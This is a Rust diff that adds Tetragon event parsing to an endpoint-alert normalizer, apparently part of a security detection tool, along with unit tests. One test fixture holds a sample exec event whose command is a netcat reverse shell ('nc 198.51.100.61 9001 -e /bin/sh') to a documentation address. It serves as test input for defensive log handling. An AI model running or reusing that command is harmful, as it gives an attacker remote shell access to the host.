@@ -368,7 +368,7 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         obj.entry("rule").or_insert(rule);
     }
     // Endpoint agents' own shapes: CrowdStrike Falcon detections, macOS eslogger exec events,
-    // osquery result lines, SentinelOne events, Falco and Carbon Black Cloud alerts, Microsoft
+    // osquery result lines, SentinelOne events, Falco and Tetragon events, Carbon Black Cloud alerts, Microsoft
     // Graph and Sentinel alerts' process evidence (read before Splunk's CIM fields, which share
     // `process_name`).
     for adapter in [
@@ -377,6 +377,7 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         edr::osquery,
         edr::sentinelone,
         edr::falco,
+        edr::tetragon,
         edr::carbon_black,
         edr::microsoft_evidence,
         edr::chronicle_udm,
@@ -2083,6 +2084,38 @@ mod tests {
         assert_eq!(falco.doc["user"]["id"], "0");
         assert_eq!(falco.doc["host"]["os"]["type"], "linux");
         assert_eq!(falco.doc["threat"]["technique"]["id"], json!(["T1059"]));
+        // Tetragon's exec event: arguments beside the binary, the pod's container, uid 0 is root;
+        // a kprobe's socket argument is the destination.
+        let exec = from_json(json!({"process_exec": {
+            "process": {"exec_id": "ZQ==", "pid": 7, "uid": 0, "cwd": "/app", "binary": "/usr/bin/nc",
+                "arguments": "198.51.100.61 9001 -e /bin/sh",
+                "pod": {"namespace": "pricing", "name": "pricing-1", "container": {"id": "containerd://3372e0", "name": "svc",
+                    "image": {"name": "ghcr.io/acme/pricing:2"}}}},
+            "parent": {"exec_id": "ZA==", "pid": 6, "binary": "/bin/sh", "arguments": "-c \"nc 198.51.100.61 9001 -e /bin/sh\""},
+            "ancestors": [{"binary": "/usr/local/bin/python3.11", "arguments": "gunicorn app"}]},
+            "node_name": "gke-node-2", "time": "2025-05-09T14:22:37Z"}), "x").unwrap();
+        assert_eq!(exec.id, "ZQ==:process_exec");
+        assert_eq!(
+            exec.doc["process"]["command_line"],
+            "/usr/bin/nc 198.51.100.61 9001 -e /bin/sh"
+        );
+        assert_eq!(exec.doc["process"]["parent"]["name"], "sh");
+        assert_eq!(
+            exec.doc["process"]["parent"]["parent"]["name"],
+            "python3.11"
+        );
+        assert_eq!(exec.doc["container"]["id"], "3372e0");
+        assert_eq!(exec.doc["orchestrator"]["namespace"], "pricing");
+        assert_eq!(exec.doc["user"]["name"], "root");
+        assert_eq!(exec.doc["host"]["name"], "gke-node-2");
+        let kprobe = from_json(json!({"process_kprobe": {"process": {"exec_id": "Zg==", "pid": 9, "uid": 33, "binary": "/usr/bin/python3",
+            "arguments": "-c import socket"}, "function_name": "tcp_connect", "policy_name": "connect",
+            "args": [{"sock_arg": {"family": "AF_INET", "saddr": "10.0.0.5", "daddr": "203.0.113.9", "sport": 40000, "dport": 443}}]},
+            "node_name": "n1"}), "x").unwrap();
+        assert_eq!(kprobe.doc["destination"]["ip"], "203.0.113.9");
+        assert_eq!(kprobe.doc["destination"]["port"], 443);
+        assert_eq!(kprobe.doc["event"]["action"], "tcp_connect");
+        assert_eq!(kprobe.doc["user"]["id"], "33");
         // A STAR alert from the management API: the source process started the target.
         let star = from_json(json!({"alertInfo": {"alertId": "s1-9", "createdAt": "2025-03-11T08:58:14Z"},
             "ruleInfo": {"name": "Login shell from a GUI app"},
